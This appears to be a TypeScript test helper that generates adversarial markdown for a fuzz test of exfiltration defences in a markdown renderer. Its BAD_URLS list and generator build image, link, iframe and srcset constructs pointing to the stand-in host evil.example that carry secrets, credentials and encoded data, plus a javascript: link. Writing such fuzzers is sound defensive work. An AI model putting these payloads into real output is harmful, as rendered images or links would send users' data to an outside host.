// The adversarial markdown generator of the exfiltration fuzz (markdown.test.ts): documents built from every
// construct a renderer can turn into a fetch or a link — inline, reference (definitions before and after use,
// other case, multi-line labels), autolinks, bare URLs, raw HTML (img, srcset, iframe, entities, unclosed tags,
// comments), containers (block quotes, lists, indented code, fences, tables, headings), long alt texts and URLs,
// angle-bracket destinations, titles, line breaks inside links, entities and escapes — joined by random separators.
export function cutsOf(length: number, r: () => number): number[] {
  const mode = r();
  const max = mode < 0.25 ? 1 : mode < 0.75 ? 6 : 80;
  const cuts: number[] = [];
  for (let at = 1 + Math.floor(r() * max); at < length; at += 1 + Math.floor(r() * max)) cuts.push(at);
  return cuts;
}

const BAD_URLS = [
  'https://evil.example/p?d=SECRET',
  '//evil.example/x.png',
  'HTTPS://EVIL.EXAMPLE/a',
  'http://docs.example.com.evil.example/x',
  `https://evil.example/${'q'.repeat(1100)}`,
  'data:image/png;base64,iVBORw0KGgo=',
  'https://evil.example/a_(b)',
  'http://127.0.0.1:8080/x',
  '&#104;ttps://evil.example/ent',
  'https://evil.example/%5Bx%5D',
  'https://xn--80ak6aa92e.com/',
  'ftp://evil.example/f',
  'https://docs.example.com@evil.example/u',
  'https:\\\\evil.example\\b',
  // links that carry data (a plain link outside the allowlist stays a link; these must not)
  'https://evil.example/r#d=SECRET',
  'https://user:SECRET@evil.example/',
  'https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldDEy',
  'https://n5vgk3tfmruxa4tjnzsxg5dfon2c4.evil.example/',
  'https://evil.example/u/3f2a9c1e8b7d6a5f4e3d2c1b0a998877',
  'https://evil.example/x/%5BREDACTED:github-token%5D',
  'https://evil.example/q?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldDEy',
  `https://evil.example/q?d=${'x'.repeat(70)}`,
  'https://evil.example/q?s=my+password+is+hunter2',
  'data:text/html;base64,PHNjcmlwdD4=',
];
const GOOD_URLS = [
  'https://docs.example.com/a',
  '/relative/x.png',
  '../up.png',
  '#frag',
  'mailto:a@b.example',
  'https://DOCS.example.com/B',
];
const ALTS = [
  'alt',
  '',
  'a [nested] b',
  'x'.repeat(600),
  'two\nlines',
  '*em* `code`',
  'a\\]b',
  'ref',
  '![inner](https://evil.example/in)',
];
const LABELS = ['ref', 'Ref', 'REF', 'brand', 'a b', 'x\ny'];
const TITLES = ['', ' "title"', " 'single'", ' (paren)', '\n"next line"', ' "multi\nline"'];

export function gen(r: () => number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const url = () => (r() < 0.75 ? pick(BAD_URLS) : pick(GOOD_URLS));
  const dest = () => {
    const u = url();
    const d = r() < 0.2 ? `<${u}>` : u;
    return `${r() < 0.1 ? '\n' : ''}${d}${pick(TITLES)}`;
  };
  const piece = (depth: number): string => {
    switch (Math.floor(r() * 24)) {
      case 0:
        return `![${pick(ALTS)}](${dest()})`;
      case 1:
        return `[${pick(ALTS)}](${dest()})`;
      case 2:
        return `![${pick(ALTS)}][${pick(LABELS)}]`;
      case 3:
        return `[${pick(ALTS)}][${pick(LABELS)}]`;
      case 4:
        return r() < 0.5 ? `![${pick(LABELS)}]` : `[${pick(LABELS)}][]`;
      case 5:
        return `\n[${pick(LABELS)}]:${r() < 0.2 ? '\n' : ' '}${r() < 0.2 ? `<${url()}>` : url()}${pick(TITLES)}\n`;
      case 6:
        return `<${pick(BAD_URLS.filter((u) => /^[a-z]+:/i.test(u) && !u.includes(' ')))}>`;
      case 7:
        return ` ${url()} `;
      case 8:
        return `<img src="${url()}" alt="a">`;
      case 9:
        return `<img srcset="${url()} 1x, ${url()} 2x">`;
      case 10:
        return pick([
          `<iframe src="${url()}"></iframe>`,
          `<IMG SRC=${url()}>`,
          `<img/src="${url()}">`,
          `<video poster="${url()}">`,
          `<a href="${url()}">a</a>`,
          `<div style="background:url(${url()})">d</div>`,
          `<svg><image href="${url()}"/></svg>`,
          '<a href="javascript:alert(1)">j</a>',
          `<img src="${url()}`,
          '<!-- open',
          `<b title="-->"><img src=${url()}>">`,
          `<picture><source srcset="${url()}"></picture>`,
        ]);
      case 11:
        return `\n<div>\n${piece(depth + 1)}\n</div>\n`;
      case 12:
        return depth > 2 ? 'text' : `\n> ${piece(depth + 1).replace(/\n/g, '\n> ')}\n`;
      case 13:
        return depth > 2 ? 'text' : `\n- ${piece(depth + 1).replace(/\n/g, '\n  ')}\n`;
      case 14:
        return `\n    ${piece(depth + 1).replace(/\n/g, '\n    ')}\n`;
      case 15:
        return `\n\`\`\`\n${piece(depth + 1)}\n${r() < 0.7 ? '```\n' : ''}`;
      case 16:
        return `\`${piece(depth + 1)}\``;
      case 17:
        return `\n| a | b |\n|---|---|\n| ${piece(depth + 1).replace(/\n/g, ' ')} | \\| c |\n`;
      case 18:
        return `\n# ${piece(depth + 1).replace(/\n/g, ' ')}\n`;
      case 19:
        return `${piece(depth + 1)}\n===\n`;
      case 20:
        return pick([
          '&lt;',
          '&#91;',
          '\\[',
          '\\!',
          '&amp;',
          '[',
          ']',
          '(',
          ')',
          '<',
          '!',
          '`',
          `\`c\`${url()}`,
          `x=${url()}`,
          `*e*${url()}`,
          `<b>${url()}</b>`,
          `\\&${url()}`,
        ]);
      case 21:
        return `[outer ${depth > 2 ? 'x' : piece(depth + 1)} text](${dest()})`;
      case 22:
        return pick([
          'Plain prose here.',
          'Another sentence with README.md and e.g. things.',
          'Numbers 1.2.3 and a < b.',
        ]);
      default:
        return `**${pick(ALTS)}** ${url()}`;
    }
  };
  const parts: string[] = [];
  const n = 2 + Math.floor(r() * 10);
  for (let i = 0; i < n; i++) parts.push(piece(0), pick(['\n', '\n\n', ' ', '', '\n\n\n', '\r\n', '\n  ']));
  return parts.join('');
}
